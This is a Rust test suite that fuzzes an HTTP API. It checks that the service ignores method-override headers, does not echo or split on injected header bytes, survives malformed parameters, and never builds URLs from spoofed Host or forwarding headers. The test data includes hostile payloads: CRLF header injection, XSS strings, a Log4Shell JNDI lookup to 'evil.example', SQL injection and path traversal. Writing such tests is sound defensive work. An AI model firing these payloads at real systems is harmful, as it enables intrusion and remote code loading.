//! Requests that are meant to do harm, on every operation of the document: methods in headers, bytes that end a header, another
//! host. What is sent never comes back where it could do something. (What is in bodies: `hostile_bodies.rs`.)

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::document::{Operation, operations};
use crate::flow::{new_attempt, pupil, put, read, whole};
use crate::harness::{Answer, Stage, slug};

const OVERRIDES: &[&str] = &["x-http-method-override", "x-http-method", "x-method-override", "x-original-method"];

both!(the_method_is_the_one_of_the_request, |stage| {
    let token = stage.full_token();
    let ada = pupil(&stage, "ada").await;
    let diagnosis = format!("/v1/diagnoses/{}", uuid::Uuid::new_v4());
    put(&stage, &token, &diagnosis, &json!({"visible_text": "I can't help with that."})).await.is(201);
    let attempt = new_attempt();
    put(&stage, &ada.token, &attempt, &json!({"lesson": slug()})).await.is(201);
    put(&stage, &token, "/v1/drafts/refusals-at-acme", &crate::authoring::draft()).await.is(201);
    put(&stage, &token, "/v1/signals/acme-rule", &crate::signals::signal()).await.is(201);
    let kept = [diagnosis.as_str(), attempt.as_str(), "/v1/drafts/refusals-at-acme", "/v1/signals/acme-rule"];
    let all = operations(&stage).await;
    let paths: BTreeSet<&String> = all.iter().map(|operation| &operation.path).collect();
    for path in paths {
        let own: Vec<&Operation> = all.iter().filter(|operation| &operation.path == path).collect();
        let known = kept
            .iter()
            .find(|known| path.rsplit_once('/').is_some_and(|(list, last)| last.starts_with('{') && known.starts_with(list)));
        let url = known.map_or_else(|| own[0].url(), |known| (*known).to_owned());
        for carried in ["GET", "POST"] {
            let takes = own.iter().any(|operation| operation.method == carried);
            if takes && carried == "POST" {
                continue; // it does what it does
            }
            let call = |url: &str| stage.call(carried, url).token(&token).header("x-request-id", "same");
            let bare = call(&url).send().await;
            for method in ["DELETE", "PUT", "POST", "PATCH", "TRACE"] {
                let mut tries = Vec::new();
                for name in OVERRIDES {
                    tries.push(call(&url).header(name, method).send().await);
                }
                let form = [("_method", method)];
                tries.push(call(&url).form(&form).send().await);
                tries.push(call(&url).json(&json!({"_method": method})).send().await);
                for answer in tries {
                    assert_eq!(answer.status, bare.status, "{carried} {url} that says {method}: {}", answer.text());
                }
                let sign = if url.contains('?') { '&' } else { '?' };
                let queried = call(&format!("{url}{sign}_method={method}")).send().await;
                assert!(
                    queried.status == bare.status || queried.status == 400,
                    "{carried} {url}?_method={method}: {}",
                    queried.text()
                );
            }
        }
    }
    for path in kept {
        read(&stage, &token, path).await.ok();
    }
});

/// Values that a header or an answer must not carry on, as they stand in a header of a request.
const HOSTILE: &[&[u8]] = &[
    b"qzq zqz",
    b"qzq\tzqz",
    b"qzq;zqz",
    b"qzq,zqz",
    b"a%0d%0aevil: 1",
    b"a\\r\\nevil: 1",
    b"<script>alert(1)</script>",
    b"\"><svg onload=alert(1)>",
    b"${jndi:ldap://evil.example/a}",
    b"{{7*7}}",
    b"\x1b[31mred",
    b"caf\xc3\xa9",
    b"\xff\xfe\x80",
    b"\xe5\x98\x8a\xe5\x98\x8devil: 1",
    b"a\x7fb",
    b"0123456789012345678901234567890123456789012345678901234567890123456789",
];

/// Bytes that end a header, or go on with it.
const ENDS: &[&[u8]] = &[b"a\0b", b"a\r\nevil: 1", b"a\nevil: 1", b"a\revil: 1", b"a\r\n evil: 1"];

/// What comes back when these bytes are sent as they are; nothing where the connection is closed without an answer.
fn raw(stage: &Stage, request: &[u8]) -> Option<Answer> {
    std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| stage.raw(request))).ok()
}

/// The answer has no header that was smuggled in, and does not say what was sent.
#[track_caller]
fn carries_nothing(answer: &Answer, sent: &[u8], what: &str) {
    assert!(answer.status < 500, "{what}: {} {}", answer.status, answer.text());
    assert!(!answer.headers.contains_key("evil") && !answer.headers.contains_key("set-cookie"), "{what}: {:?}", answer.headers);
    for (name, value) in &answer.headers {
        let echoed = value.as_bytes().windows(sent.len()).any(|part| part == sent);
        assert!(!echoed, "{what}: the header {name} says it again: {value:?}");
    }
}

both!(what_a_request_says_of_itself_is_not_said_again, |stage| {
    let token = stage.full_token();
    let paths = ["/healthz", "/v1/lessons", "/v1/nothing", "/oauth/token", "/docs/"];
    for path in paths {
        for hostile in HOSTILE.iter().chain(ENDS) {
            for name in ["x-request-id", "traceparent", "tracestate", "x-correlation-id", "x-b3-traceid", "baggage"] {
                let mut request =
                    format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\nauthorization: Bearer {token}\r\n{name}: ")
                        .into_bytes();
                request.extend(*hostile);
                request.extend(b"\r\n\r\n");
                let what = format!("{path} {name}: {:?}", String::from_utf8_lossy(hostile));
                let Some(answer) = raw(&stage, &request) else { continue };
                carries_nothing(&answer, hostile, &what);
                let text = String::from_utf8_lossy(hostile).into_owned();
                assert!(!answer.text().contains(&text), "{what}: {}", answer.text());
                let id = answer.header("x-request-id");
                assert!(id.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b)), "{what}: {id}");
            }
        }
        // A well-formed trace is for the log, not for the answer.
        let trace = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
        let answer = stage.get(path).header("traceparent", trace).send().await;
        carries_nothing(&answer, trace.as_bytes(), path);
        assert!(!answer.text().contains(trace), "{path}");
    }
    // Two ids are none.
    let two = b"GET /healthz HTTP/1.1\r\nhost: x\r\nconnection: close\r\nx-request-id: one\r\nx-request-id: b d\r\n\r\n";
    assert_ne!(stage.raw(two).header("x-request-id"), "b d");
});

both!(
    /// In every header that an operation names, and in those that browsers and proxies send.
    no_header_breaks_an_operation, |stage| {
    let token = stage.full_token();
    for operation in operations(&stage).await {
        let own = operation.parameters("header");
        let own = own.iter().map(|one| one["name"].as_str().unwrap().to_owned());
        let names = own.chain(["accept", "accept-language", "accept-encoding", "if-modified-since", "expect-ct", "origin", "referer", "user-agent"].map(str::to_owned));
        let body = operation.json_body().map(|_| operation.example().unwrap().to_string()).unwrap_or_default();
        for name in names {
            for hostile in [HOSTILE[4], HOSTILE[10], HOSTILE[12], HOSTILE[13]] {
                let head = format!(
                    "{} {} HTTP/1.1\r\nhost: x\r\nconnection: close\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n{name}: ",
                    operation.method,
                    operation.url(),
                    body.len()
                );
                let request = [head.as_bytes(), hostile, b"\r\n\r\n", body.as_bytes()].concat();
                let what = format!("{operation} {name}: {:?}", String::from_utf8_lossy(hostile));
                let Some(answer) = raw(&stage, &request) else { continue };
                assert!(answer.status < 500, "{what}: {}", answer.text());
                assert!(!answer.headers.contains_key("evil"), "{what}: {:?}", answer.headers);
            }
        }
    }
});

both!(
    /// In every parameter of every operation: no failure, no header of the caller's making.
    no_parameter_breaks_an_operation, |stage| {
    let token = stage.full_token();
    let values = [
        "%00", "a%00b", "%2500", "x%0d%0aevil:%201", "x%0aevil:%201", "x%0d%0a%0d%0a<script>", "%ff%fe", "%c0%80", "%ed%a0%80", "%f4%90%80%80",
        "%e5%98%8a%e5%98%8devil:1", "..%2f..%2fetc%2fpasswd", "%2e%2e", "..%5c", "'%20OR%20'1'='1", "';DROP%20TABLE%20records;--", "%25%25", "*", "%EF%BB%BF",
    ];
    let (mut tried, mut wrong) = (0, Vec::new());
    for operation in operations(&stage).await {
        let body = operation.json_body().map(|_| operation.example().unwrap());
        for place in ["path", "query"] {
            for parameter in operation.parameters(place) {
                let name = parameter["name"].as_str().unwrap();
                for value in values {
                    let url = if place == "path" {
                        operation.url_with(|one| (one == name).then(|| value.to_owned()))
                    } else {
                        let url = operation.url();
                        let url = url.split('?').next().unwrap();
                        format!("{url}?{name}={value}")
                    };
                    // reqwest would tidy some of these.
                    let text = body.as_ref().map(Value::to_string).unwrap_or_default();
                    let request = format!(
                        "{} {url} HTTP/1.1\r\nhost: x\r\nconnection: close\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{text}",
                        operation.method,
                        text.len()
                    );
                    let answer = stage.raw(request.as_bytes());
                    tried += 1;
                    let nul = value.contains("%00") && !value.contains("%2500");
                    let refused = (400..500).contains(&answer.status);
                    if answer.status >= 500 || answer.headers.contains_key("evil") || (nul && !refused) {
                        wrong.push(format!("{operation} {name}={value}: {} {:?} {}", answer.status, answer.headers, answer.text()));
                    }
                }
            }
        }
    }
    assert!(wrong.is_empty(), "\n  {}", wrong.join("\n  "));
    assert!(tried > 1000, "only {tried}");
});

/// Headers by which a proxy tells, and an attacker pretends, under which name a service is reached.
const HOSTS: &[(&str, &str)] = &[
    ("x-forwarded-host", "evil.example"),
    ("x-forwarded-server", "evil.example"),
    ("x-host", "evil.example"),
    ("x-forwarded-proto", "gopher"),
    ("x-forwarded-prefix", "/evil.example"),
    ("forwarded", "for=1.2.3.4;host=evil.example;proto=gopher"),
    ("x-original-url", "/evil.example"),
    ("x-rewrite-url", "/evil.example"),
    ("x-wap-profile", "http://evil.example/profile"),
    ("referer", "https://evil.example/"),
    ("origin", "https://evil.example"),
];

both!(no_answer_takes_its_host_from_the_request, |stage| {
    let token = stage.full_token();
    let ada = pupil(&stage, "ada").await;
    // Answers with a URL in them: what was just made, a page that has a next one.
    let attempt = new_attempt();
    put(&stage, &ada.token, &attempt, &whole(3)).await.is(201);
    put(&stage, &ada.token, &new_attempt(), &whole(4)).await.is(201);
    let mut urls: Vec<(String, String, Option<Value>)> = vec![
        ("GET".to_owned(), "/v1/attempts?limit=1".to_owned(), None),
        ("GET".to_owned(), attempt, None),
        ("PUT".to_owned(), new_attempt(), Some(json!({"lesson": slug(), "learner": {"id": ada.id}}))),
        ("GET".to_owned(), "/".to_owned(), None),
        ("GET".to_owned(), "/docs".to_owned(), None),
        ("GET".to_owned(), "/docs/errors".to_owned(), None),
        ("GET".to_owned(), "/v1/nothing".to_owned(), None),
    ];
    let all = operations(&stage).await;
    urls.extend(all.iter().map(|one| (one.method.clone(), one.url(), one.json_body().and_then(|_| one.example()))));
    let mut linked = 0;
    for (method, url, body) in urls {
        let mut request =
            format!("{method} {url} HTTP/1.1\r\nhost: evil.example\r\nconnection: close\r\nauthorization: Bearer {token}\r\n");
        HOSTS.iter().for_each(|(name, value)| request.push_str(&format!("{name}: {value}\r\n")));
        let text = body.map(|body| body.to_string()).unwrap_or_default();
        request.push_str(&format!("content-type: application/json\r\ncontent-length: {}\r\n\r\n{text}", text.len()));
        let answer = stage.raw(request.as_bytes());
        let said = format!("{:?} {}", answer.headers, answer.text());
        assert!(!said.contains("evil.example") && !said.contains("gopher"), "{method} {url}: {said}");
        linked += usize::from(answer.headers.contains_key("location") || answer.headers.contains_key("link"));
    }
    assert!(linked >= 4, "only {linked} answers had a URL");
    // In the target itself, and twice.
    for request in [
        "GET http://evil.example/v1/attempts?limit=1 HTTP/1.1\r\nhost: x\r\n",
        "GET /v1/attempts?limit=1 HTTP/1.1\r\nhost: x\r\nhost: evil.example\r\n",
        "GET /v1/attempts?limit=1 HTTP/1.1\r\nhost: evil.example:80@x\r\n",
    ] {
        let request = format!("{request}connection: close\r\nauthorization: Bearer {token}\r\n\r\n");
        if let Some(answer) = raw(&stage, request.as_bytes()) {
            assert!(answer.status < 500 && !format!("{:?}", answer.headers).contains("evil"), "{request}: {:?}", answer.headers);
        }
    }
});
